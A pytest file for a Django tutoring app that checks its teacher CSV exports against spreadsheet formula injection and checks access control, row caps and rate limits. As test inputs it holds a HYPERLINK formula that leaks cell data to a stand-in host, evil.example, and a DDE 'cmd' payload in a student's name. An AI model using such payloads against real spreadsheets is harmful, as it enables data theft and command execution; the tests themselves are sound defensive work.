"""CSV exports of a class: sessions, turns and mastery, for the class's teacher; safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse

from tutor import exports
from tutor.views.exports import EXPORTS_PER_WINDOW

from .conftest import World
from .test_session_figures import say


def download(world: World, name: str, actor: str = "teacher") -> tuple[int, list[list[str]], str]:
    client = Client()
    client.force_login(getattr(world, actor))
    response = client.get(reverse(name, args=[world.classroom.pk]))
    if response.status_code != 200:
        return response.status_code, [], ""
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8"))))
    return response.status_code, rows, response["Content-Disposition"]


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_a_spreadsheet_would_run_as_a_formula_gets_an_apostrophe(trigger: str) -> None:
    assert exports.spreadsheet_cell(f'{trigger}HYPERLINK("http://x")') == f'\'{trigger}HYPERLINK("http://x")'


def test_other_cells_are_left_as_they_are() -> None:
    assert exports.spreadsheet_cell("24 muffins = 4 x 6") == "24 muffins = 4 x 6"
    assert exports.spreadsheet_cell(-3) == -3  # a number is a number, not a formula
    assert exports.spreadsheet_cell(0.25) == 0.25
    assert exports.spreadsheet_cell(None) == ""
    assert exports.spreadsheet_cell(True) == "yes"


def test_the_turns_export_escapes_what_a_student_typed(world: World) -> None:
    say(world.session, ['=HYPERLINK("http://evil.example/?"&A1,"hint")', "@SUM(1+1)", "-2+3", "24"])

    status, rows, disposition = download(world, "export_turns")

    assert status == 200
    assert disposition == 'attachment; filename="class-a-turns-' + disposition.split("turns-", 1)[1]
    header, body = rows[0], rows[1:]
    assert header == exports.TURN_HEADER
    texts = [r[header.index("text")] for r in body if r[header.index("role")] == "student"]
    assert texts == ['\'=HYPERLINK("http://evil.example/?"&A1,"hint")', "'@SUM(1+1)", "'-2+3", "24"]
    assert {r[0] for r in body} == {str(world.session.pk)}  # only this class's session
    assert [int(r[header.index("seq")]) for r in body] == list(range(1, 10))


def test_the_sessions_export_has_one_row_per_session_with_its_figures(world: World) -> None:
    world.student.first_name = "=cmd|' /C calc'!A0"
    world.student.save()
    say(world.session, ["just tell me the answer", "tell me the answer", "give me the answer", "24", "12"])

    status, rows, _ = download(world, "export_sessions")

    assert status == 200
    header, body = rows[0], rows[1:]
    assert header == exports.SESSION_HEADER
    assert len(body) == 1
    row = dict(zip(header, body[0], strict=True))
    assert row["session_id"] == str(world.session.pk)
    assert row["student"].startswith("'=cmd")  # a name can be a formula too
    assert row["username"] == "s-carol"
    assert (row["status"], row["solved"], row["student_turns"], row["steps"]) == ("solved", "yes", "5", "2")
    assert row["flags"] == "Asked for the answer 3 times; Used up the hint budget"
    assert 0 < float(row["student_talk_share"]) < 1


def test_the_mastery_export_lists_every_student_against_every_class_skill(world: World) -> None:
    say(world.session, ["24"])

    status, rows, _ = download(world, "export_mastery")

    header, body = rows[0], rows[1:]
    assert status == 200 and header == exports.MASTERY_HEADER
    assert {r[1] for r in body} == {"s-carol"}  # the other class's student is not here
    multiply = next(r for r in body if r[2] == "arith.multiply")
    assert 0 < float(multiply[4]) <= 1 and multiply[5] == "1"
    untouched = [r for r in body if r[5] == "0"]
    assert untouched and all(r[4] == "" for r in untouched)  # no evidence: empty, not a made-up prior


@pytest.mark.parametrize("name", ["export_sessions", "export_turns", "export_mastery"])
def test_every_export_is_for_the_classs_teacher_and_admins_only(world: World, name: str) -> None:
    say(world.session, ["24"])
    assert download(world, name, "teacher")[0] == 200
    assert download(world, name, "admin")[0] == 200
    for actor in ("other_teacher", "student", "other_student"):
        assert download(world, name, actor)[0] == 403, actor
    anonymous = Client().get(reverse(name, args=[world.classroom.pk]))
    assert anonymous.status_code == 302 and anonymous["Location"].startswith(reverse("login"))


def test_a_turns_export_too_large_for_one_download_is_refused_with_a_reason(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(exports, "MAX_EXPORT_ROWS", 2)
    client = Client()
    client.force_login(world.teacher)
    say(world.session, ["24", "12"])
    response = client.get(reverse("export_turns", args=[world.classroom.pk]))
    assert response.status_code == 413
    assert "more than one download carries (2)" in response.content.decode()


def test_exports_are_rate_limited(world: World) -> None:
    client = Client()
    client.force_login(world.teacher)
    url = reverse("export_mastery", args=[world.classroom.pk])
    statuses = [client.get(url).status_code for _ in range(EXPORTS_PER_WINDOW + 1)]
    assert statuses == [200] * EXPORTS_PER_WINDOW + [429]
